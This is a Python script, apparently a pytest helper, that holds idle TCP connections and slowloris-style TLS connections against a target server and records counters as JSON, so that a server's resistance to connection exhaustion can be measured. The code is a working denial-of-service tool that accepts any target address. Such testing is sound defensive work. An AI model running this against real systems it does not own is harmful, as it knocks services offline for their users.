#!/usr/bin/env python3
"""Holds hostile connections against one TLS server until SIGTERM (a process of its own, so the
measuring client in pytest does not share its event loop or interpreter lock).

  hostile_clients.py --target 127.0.0.1:PORT --ca CA.crt --idle N --slowloris M
                     [--byte-interval 2] --stats FILE

- idle: N plain TCP connections that never send a byte. When the server closes one, it is opened
  again (the attack is *held*, as a persistent attacker would); closes and re-opens are counted.
- slowloris: M connections that complete the TLS handshake (verified against --ca) and then send
  an HTTP request header one byte every --byte-interval seconds, never finishing it. Handshakes
  that do not complete within 60 s are counted as pending; connections the server closes are
  counted and opened again.
Slowloris connections are opened first, then the idle ones (at most 200 connects in flight).
Counters go to --stats as JSON every 0.5 s and at exit.
"""
from __future__ import annotations

import argparse
import asyncio
import json
import os
import signal
import ssl
import time

HEADER = (b"POST /v1/webhook/validation HTTP/1.1\r\nHost: 127.0.0.1\r\n"
          b"Content-Type: application/json\r\nX-Slow: " + b"a" * 100000)


class Attack:
    def __init__(self, host: str, port: int, ca: str, byte_interval: float, stats_path: str):
        self.host, self.port = host, port
        self.ctx = ssl.create_default_context(cafile=ca)
        self.byte_interval = byte_interval
        self.stats_path = stats_path
        self.connect_slots = asyncio.Semaphore(200)
        self.s = {"idle_open": 0, "idle_opened": 0, "idle_closed_by_server": 0,
                  "idle_connect_errors": 0,
                  "slow_handshaking": 0, "slow_open": 0, "slow_handshakes": 0,
                  "slow_handshake_timeouts": 0, "slow_handshake_errors": 0,
                  "slow_closed_by_server": 0, "slow_bytes_sent": 0,
                  "first_slow_handshake_s": None, "last_slow_handshake_s": None}
        self.t0 = time.monotonic()
        self.stop = asyncio.Event()

    async def idle(self):
        while not self.stop.is_set():
            try:
                async with self.connect_slots:
                    reader, writer = await asyncio.wait_for(
                        asyncio.open_connection(self.host, self.port), 10)
            except Exception:  # noqa: BLE001
                self.s["idle_connect_errors"] += 1
                await asyncio.sleep(0.5)
                continue
            self.s["idle_opened"] += 1
            self.s["idle_open"] += 1
            try:
                stop = asyncio.create_task(self.stop.wait())
                read = asyncio.create_task(reader.read(1))
                done, _ = await asyncio.wait({stop, read}, return_when=asyncio.FIRST_COMPLETED)
                if read in done:
                    self.s["idle_closed_by_server"] += 1
                for t in (stop, read):
                    t.cancel()
            except Exception:  # noqa: BLE001
                self.s["idle_closed_by_server"] += 1
            finally:
                self.s["idle_open"] -= 1
                writer.transport.abort()

    async def slowloris(self):
        while not self.stop.is_set():
            self.s["slow_handshaking"] += 1
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(
                    self.host, self.port, ssl=self.ctx, server_hostname=self.host), 60)
            except asyncio.TimeoutError:
                self.s["slow_handshaking"] -= 1
                self.s["slow_handshake_timeouts"] += 1
                continue
            except Exception:  # noqa: BLE001
                self.s["slow_handshaking"] -= 1
                self.s["slow_handshake_errors"] += 1
                await asyncio.sleep(0.5)
                continue
            self.s["slow_handshaking"] -= 1
            now = round(time.monotonic() - self.t0, 2)
            if self.s["first_slow_handshake_s"] is None:
                self.s["first_slow_handshake_s"] = now
            self.s["last_slow_handshake_s"] = now
            self.s["slow_handshakes"] += 1
            self.s["slow_open"] += 1
            read = asyncio.create_task(reader.read(1))
            try:
                for i in range(len(HEADER)):
                    if self.stop.is_set() or read.done():
                        break
                    writer.write(HEADER[i:i + 1])
                    await writer.drain()
                    self.s["slow_bytes_sent"] += 1
                    await asyncio.wait({read}, timeout=self.byte_interval)
                if read.done() and not self.stop.is_set():
                    self.s["slow_closed_by_server"] += 1
            except Exception:  # noqa: BLE001
                self.s["slow_closed_by_server"] += 1
            finally:
                read.cancel()
                self.s["slow_open"] -= 1
                writer.transport.abort()

    def write_stats(self):
        data = dict(self.s, pid=os.getpid(), elapsed_s=round(time.monotonic() - self.t0, 2))
        tmp = self.stats_path + ".tmp"
        with open(tmp, "w") as f:
            json.dump(data, f)
        os.replace(tmp, self.stats_path)

    async def stats_writer(self):
        while not self.stop.is_set():
            self.write_stats()
            await asyncio.sleep(0.5)


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--target", required=True)
    ap.add_argument("--ca", required=True)
    ap.add_argument("--idle", type=int, default=0)
    ap.add_argument("--slowloris", type=int, default=0)
    ap.add_argument("--byte-interval", type=float, default=2.0)
    ap.add_argument("--stats", required=True)
    args = ap.parse_args()
    host, port = args.target.rsplit(":", 1)
    attack = Attack(host, int(port), args.ca, args.byte_interval, args.stats)
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, attack.stop.set)
    tasks = [asyncio.create_task(attack.stats_writer())]
    tasks += [asyncio.create_task(attack.slowloris()) for _ in range(args.slowloris)]
    await asyncio.sleep(0.5)  # slowloris connections first
    tasks += [asyncio.create_task(attack.idle()) for _ in range(args.idle)]
    await attack.stop.wait()
    await asyncio.sleep(0.2)
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    attack.write_stats()


if __name__ == "__main__":
    asyncio.run(main())
